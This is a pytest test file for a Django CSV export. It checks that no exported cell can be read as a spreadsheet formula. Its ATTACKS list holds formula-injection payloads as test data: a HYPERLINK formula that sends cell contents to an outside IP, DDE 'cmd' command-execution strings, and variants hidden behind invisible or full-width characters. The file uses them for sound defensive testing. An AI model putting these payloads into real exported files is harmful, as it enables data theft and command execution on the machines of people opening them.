"""No cell of an exported file is taken for a formula, however the file is read."""

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from observations.exporting.cells import number_cell, text_cell
from submitters.models import Organisation
from tests import factories
from tests.admin import world
from tests.admin.export_pages import lines, note


@pytest.fixture
def owner(db: None) -> Organisation:
    return factories.organisation()


ATTACKS = [
    '=HYPERLINK("http://198.51.100.1/?a="&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",  # noqa: RUF001 - the full-width form is the attack
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
    "−1+1",  # noqa: RUF001
    "-5",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_begins_a_formula(support: Client, owner: Organisation, attack: str) -> None:
    note(owner, attack)
    [line] = lines(support)
    assert line["value"].startswith("'")
    assert line["value"].replace("'", "") == attack.replace("'", "")
    for cell in line.values():
        assert cell.lstrip()[:1] not in set("=+-@＝＋－＠−"), line  # noqa: RUF001 - as above


@pytest.mark.parametrize("field", ["external_id", "client_id"])
def test_no_id_begins_a_formula(support: Client, owner: Organisation, field: str) -> None:
    ids: dict[str, Any] = {"external_id": "p-1", field: "=1+1"}
    world.record(owner, factories.reading(**ids))
    [line] = lines(support)
    assert line["patient" if field == "external_id" else "client_id"] == "'=1+1"


def test_no_name_begins_a_formula(support: Client) -> None:
    note(factories.organisation(name="@North"), "well")
    assert lines(support)[0]["organisation"] == "'@North"


def test_a_negative_number_stays_a_number(support: Client, owner: Organisation) -> None:
    world.record(owner, factories.reading("p-1", "-7.00", code="8310-5", unit="Cel"))
    [line] = lines(support)
    assert (line["value"], line["canonical_value"]) == ("-7.00", "-7.00")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("a;=1+1", "a;'=1+1"),
        ("a; -1", "a;' -1"),
        ("list:\n- one\n- two", "list:\n'- one\n'- two"),
        ("a\t=1+1", "a\t'=1+1"),
        ("3-4 times; well", "3-4 times; well"),
        ("a=b, c-d", "a=b, c-d"),
        ("'=1", "'=1"),
        ("\tword", "'\tword"),
        ("", ""),
    ],
)
def test_a_formula_cannot_begin_behind_another_separator_either(text: str, cell: str) -> None:
    assert text_cell(text) == cell


@given(st.text(alphabet="=+-@＝＋－＠ \t\r\n;,'\"a1\u200b\ufeff", max_size=12))  # noqa: RUF001 - as above
def test_no_cell_begins_a_formula_however_the_file_is_split(text: str) -> None:
    written = io.StringIO()
    csv.writer(written).writerow(["x", text_cell(text)])
    file = written.getvalue()
    assert next(csv.reader(io.StringIO(file, newline="")))[1].replace("'", "") == text.replace("'", "")
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(file, newline=""), delimiter=delimiter):
            for cell in row:
                seen = cell.strip(" \t\r\n\u200b\ufeff")
                assert seen[:1] not in set("=+-@＝＋－＠") or seen == "", (text, cell)  # noqa: RUF001


@pytest.mark.parametrize(
    ("number", "cell"),
    [("7.00", "7.00"), ("0.0000001", "0.0000001"), ("1E+3", "1000"), ("-0.5", "-0.5"), (None, "")],
)
def test_numbers_keep_their_digits_and_have_no_exponent(number: str | None, cell: str) -> None:
    assert number_cell(None if number is None else Decimal(number)) == cell
